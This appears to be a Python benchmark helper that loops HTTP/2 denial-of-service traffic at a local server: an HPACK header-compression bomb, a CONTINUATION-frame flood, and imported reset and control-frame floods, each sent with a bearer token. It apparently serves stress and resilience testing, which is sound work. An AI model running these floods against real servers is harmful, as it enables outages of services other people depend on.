# SPDX-License-Identifier: Apache-2.0
"""The attacker of attacks.sh: one connection after the other, each as far as it gets.

attacks.py KIND PORT TOKEN: until it is killed."""

import contextlib
import os
import sys
import time

sys.path.insert(0, os.path.join(os.path.dirname(os.path.realpath(__file__)), "..", "tests", "h2o"))
from hyperframe.frame import ContinuationFrame, HeadersFrame  # noqa: E402

import floods  # noqa: E402
from rawh2 import Closed, Connection  # noqa: E402

PAUSE_S = 1 / float(os.environ.get("BENCH_ATTACKS_PER_SECOND", "10"))


def hpack_bomb(conn, path, headers):
    block = conn.header_block(path, {**headers, "x-bomb": "b"})
    yield HeadersFrame(1, block, flags=["END_STREAM", "END_HEADERS"]).serialize()
    block = conn.header_block(path, {**headers, "x-bomb": "b"})
    for i in range(3, 203, 2):
        yield HeadersFrame(i, block + block[-1:] * 15000, flags=["END_HEADERS"]).serialize()


def continuation(conn, path, headers):
    yield HeadersFrame(1, conn.header_block(path, headers)).serialize()
    for _ in range(100):
        yield ContinuationFrame(1, b"\x00\x01a\x7f\x81\x7e" + b"v" * 16378).serialize()


def key(name):
    return name.lower().replace(" ", "_")


KINDS = {**{key(k): v for k, v in {**floods.RESETS, **floods.CONTROL}.items()},
         "hpack_bomb": hpack_bomb, "continuation": continuation}


def main():
    kind, port, token = KINDS[sys.argv[1]], int(sys.argv[2]), sys.argv[3]
    while True:
        with contextlib.suppress(Closed, OSError), Connection("127.0.0.1", port) as conn:
            units = kind(conn, "/v1/me", {"authorization": "Bearer " + token})
            for _, unit in zip(range(5000), units):
                conn.send(unit)
        time.sleep(PAUSE_S)


if __name__ == "__main__":
    main()
